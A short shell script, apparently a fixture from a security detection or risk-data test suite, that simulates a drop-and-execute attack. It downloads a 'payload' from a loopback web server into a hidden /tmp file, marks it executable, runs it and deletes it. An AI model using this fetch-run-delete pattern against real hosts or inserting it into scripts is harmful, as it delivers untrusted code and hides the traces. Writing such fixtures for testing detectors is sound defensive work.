# dropexec (shell): fetch a program from the loopback web server into /tmp,
# make it executable, run it.
test -e /archangel-riskdata/begin/dropexec
curl -s -o /tmp/.rd-update "http://127.0.0.1:$RD_HTTP/payload"
chmod +x /tmp/.rd-update
/tmp/.rd-update
rm -f /tmp/.rd-update
test -e /archangel-riskdata/end
